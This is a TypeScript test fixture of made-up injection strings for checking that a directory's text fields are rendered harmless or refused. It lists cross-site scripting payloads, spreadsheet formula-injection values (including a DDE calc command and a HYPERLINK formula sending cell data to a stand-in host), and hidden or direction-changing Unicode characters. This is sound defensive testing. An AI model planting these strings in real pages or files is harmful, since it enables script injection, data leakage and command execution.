/**
 * Texts that try to break out of where they stand. All are made up. Whatever they run would set `window.planted`, and
 * every element they make would carry the attribute data-planted.
 */

/** Texts that a directory may hold, because pages and files make them harmless. */
export const HARMLESS: Record<string, string> = {
  'a script': '<script data-planted>window.planted = 1</script>',
  'the end of a script': '</script><script data-planted>window.planted = 1</script>',
  'the start of a comment': '<!--<script data-planted>',
  'the end of everything': '--></title></textarea></style></script></svg><b data-planted>x</b>',
  'an image': '<img data-planted src="x" onerror="window.planted = 1">',
  'an image after an attribute': '"><img data-planted src=x onerror=window.planted=1>',
  'a drawing': "'><svg data-planted onload=window.planted=1>",
  'double quotes': '" autofocus onfocus="window.planted = 1" data-planted="',
  'single quotes': "' onmouseover='window.planted = 1' data-planted='",
  'no quotes': 'x onmouseover=window.planted=1 data-planted=1',
  'a frame': '<iframe data-planted srcdoc="<script>parent.planted = 1</script>"></iframe>',
  'a base': '<base data-planted href="https://planted.example/">',
  'a refresh': '<meta data-planted http-equiv="refresh" content="0;url=https://planted.example/">',
  'a style': '<style data-planted>@import "https://planted.example/x.css"; * { display: none }</style>',
  'a form': '<form data-planted action="https://planted.example/"><input name="q" autofocus></form>',
  'a hook': '<main data-planted data-ready="true" data-service="x" data-results id="main">',
  'a script address': 'javascript:window.planted=1',
  'a link': '<a data-planted href="javascript:window.planted=1">Example</a>',
  'another address': 'https://planted.example/?a=1&b=2#c',
  'a drawing from elsewhere': 'url(https://planted.example/x.svg#y)',
  references: '&lt;script data-planted&gt; &amp; &#60;b data-planted&#62; &quot;',
  escapes: '\\u003cscript data-planted\\u003e \\x3cb\\x3e \\n \\"',
  'a formula': '=HYPERLINK("https://planted.example/?"&A1,"Example")',
  'a command': "+1+cmd|' /C calc'!A0",
  'a sum': '-2+3+cmd',
  'an old function': '@SUM(1+1)',
  'a full-width formula': '＝1+1',
  'a formula in quotes': '"=1+1"',
  'a formula after an apostrophe': "'=1+1",
  'a formula after a line break': 'two lines\n=1+1',
  'a formula after a tab': 'two parts\t@SUM(1+1)',
  placeholders: '{{name}} {{count}} {{- title}} {n} %s',
  nesting: '$t(nav.home) $t(site.description, {"country": "Planted"})',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it has to look like one.
  'a template': '${window.planted = 1} `x` <%= 1 %> {% x %}',
  'signs of a replacement': "$& $1 $$ $` $'",
  Markdown: '# Title **b** [x](javascript:window.planted=1) ![x](https://planted.example/x.png)',
  'a word of objects': '__proto__',
  'another word of objects': 'constructor',
  'a long word': 'Wolkenkuckucksheim'.repeat(17).slice(0, 300),
  'long Khmer': 'ឧទាហរណ៍'.repeat(40),
  'Khmer with separators': 'ឧទាហរណ៍\u200bឧទាហរណ៍\u200bឧទាហរណ៍',
  'letters from right to left': 'مثال עולם',
  pictures: '👩\u200d👩\u200d👧 🇰🇭 👍🏽',
  'a forged report': 'x\ndata/organizations.csv\n  error  row 2',
};

/** Those that look like HTML, of which the check warns. */
export const WARNED = Object.keys(HARMLESS).filter((name) =>
  /<(?:\/?[a-z]|!|\?)/i.test(HARMLESS[name] ?? ''),
);

/** Texts that the check refuses, with the code and the sentence it has for them. */
export const REFUSED: Record<string, { text: string; code: string; says: RegExp }> = {
  'a null': refuse('a\0b', /^Character 2 of .* is U\+0000, which is a control character\.$/),
  'a bell': refuse('a\u0007', /U\+0007, which is a control character/),
  'an escape to the terminal': refuse('\u001b[2Jx', /Character 1 .* U\+001B/),
  'a delete': refuse('x\u007fx', /U\+007F/),
  'a control character of old screens': refuse('x\u009b31mx', /U\+009B/),
  'the next line': refuse('x\u0085x', /U\+0085/),
  'a line separator': refuse('x\u2028x', /U\+2028, which is invisible/),
  'right to left': refuse('abc\u202ecba', /Character 4 .* U\+202E, which turns the direction of writing/),
  'an isolate': refuse('x\u2066x', /U\+2066, which turns the direction/),
  'a mark of a messenger': refuse('x\u202a+85500\u202c', /U\+202A, which turns/),
  'a right-to-left mark': refuse('x\u200fx', /U\+200F, which turns/),
  'an Arabic mark': refuse('x\u061cx', /U\+061C, which turns/),
  'a byte-order mark inside': refuse('x\ufeffx', /U\+FEFF, which is invisible/),
  'hidden letters': refuse('x\u{e0041}\u{e0042}', /U\+E0041, which is invisible/),
  'a blank letter': refuse('x\u3164x', /U\+3164, which is invisible/),
  'a private letter': refuse('x\ue000', /U\+E000, which is a letter that only one font knows/),
  'no character': refuse('x\uffff', /U\+FFFF, which is no character/),
  'a tower of marks': refuse(`e${'\u0301'.repeat(40)}`, /too many marks on one letter/),
  'nothing to see': refuse('\u200b\u200d', /holds only characters that cannot be seen/),
  'a million characters': {
    text: 'x'.repeat(1_000_000),
    code: 'cell-too-long',
    says: /has 1,000,000 characters; a text may have 5,000\.$/,
  },
};

function refuse(text: string, says: RegExp) {
  return { text, code: 'unsafe-character', says };
}
